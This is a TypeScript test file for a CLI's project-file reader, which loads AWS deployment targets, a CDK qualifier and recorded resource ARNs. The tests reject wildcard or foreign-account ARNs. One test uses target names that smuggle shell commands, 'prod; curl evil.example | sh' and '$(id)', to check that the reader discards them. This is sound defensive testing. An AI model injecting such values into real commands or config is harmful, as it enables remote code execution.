// The new CLI's project beside its files: aws-targets.json and cdk/cdk.json are optional and read
// only as far as the CLI's own rules allow, since their values reach the next-step command.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { readProject } from '../../src/deployTools/agentcoreCli/projectFile.ts'
import { projectSpec } from '../../test-support/agentcoreCli.ts'

let workspace: string
beforeEach(() => {
  workspace = mkdtempSync(join(tmpdir(), 'project-file-'))
  mkdirSync(join(workspace, 'agentcore', 'cdk'), { recursive: true })
  writeFileSync(
    join(workspace, 'agentcore', 'agentcore.json'),
    projectSpec([{ name: 'agent', build: 'CodeZip' }])
  )
})
afterEach(() => rmSync(workspace, { recursive: true, force: true }))
const write = (path: string, text: string) =>
  writeFileSync(join(workspace, 'agentcore', path), text)
const read = () => readProject('agentcore/agentcore.json', workspace)

describe('readProject', () => {
  it('reads the project, its targets and its CDK qualifier', async () => {
    write(
      'aws-targets.json',
      JSON.stringify([{ name: 'prod', account: '111122223333', region: 'us-east-1' }])
    )
    write(
      'cdk/cdk.json',
      JSON.stringify({ context: { '@aws-cdk/core:bootstrapQualifier': 'team1' } })
    )
    expect(await read()).toMatchObject({
      name: 'Demo',
      runtimes: [{ name: 'agent', build: 'CodeZip' }],
      targets: [{ name: 'prod', account: '111122223333', region: 'us-east-1' }],
      cdkQualifier: 'team1',
      deployed: { prod: { memories: {}, gateways: {} } }
    })
  })

  it('reads what agentcore deploy recorded for each target, one resource per ARN', async () => {
    write(
      'aws-targets.json',
      JSON.stringify([{ name: 'prod', account: '111122223333', region: 'us-east-1' }])
    )
    const memoryArn = 'arn:aws:bedrock-agentcore:us-east-1:111122223333:memory/Demo_chat-Ab12Cd34Ef'
    mkdirSync(join(workspace, 'agentcore', '.cli'))
    write(
      '.cli/deployed-state.json',
      JSON.stringify({
        targets: { prod: { resources: { memories: { chat: { memoryId: 'x', memoryArn } } } } }
      })
    )
    expect((await read()).deployed['prod']?.memories).toEqual({ chat: memoryArn })
    // A tampered ARN would widen the role: a wildcard, or another account, is refused in one line.
    for (const arn of [
      'arn:aws:bedrock-agentcore:us-east-1:111122223333:memory/*',
      'arn:aws:bedrock-agentcore:us-east-1:999999999999:memory/Demo_chat-Ab12Cd34Ef'
    ]) {
      write(
        '.cli/deployed-state.json',
        JSON.stringify({
          targets: { prod: { resources: { memories: { chat: { memoryArn: arn } } } } }
        })
      )
      await expect(read()).rejects.toThrow(
        'agentcore/.cli/deployed-state.json: targets.prod.resources.memories.chat.memoryArn is not the ARN of one memory in account 111122223333, us-east-1'
      )
    }
  })

  it('keeps no target or qualifier the CLI itself would refuse', async () => {
    write(
      'aws-targets.json',
      JSON.stringify([
        { name: 'prod; curl evil.example | sh', account: '111122223333', region: 'us-east-1' },
        { name: '$(id)', account: '111122223333', region: 'us-east-1' }
      ])
    )
    write(
      'cdk/cdk.json',
      JSON.stringify({ context: { '@aws-cdk/core:bootstrapQualifier': 'a b' } })
    )
    const project = await read()
    expect(project.targets).toEqual([])
    expect(project.cdkQualifier).toBeUndefined()
  })

  it('takes unreadable side files as absent', async () => {
    write('aws-targets.json', '{ not json')
    write('cdk/cdk.json', '[]')
    const project = await read()
    expect(project.targets).toEqual([])
    expect(project.cdkQualifier).toBeUndefined()
  })
})
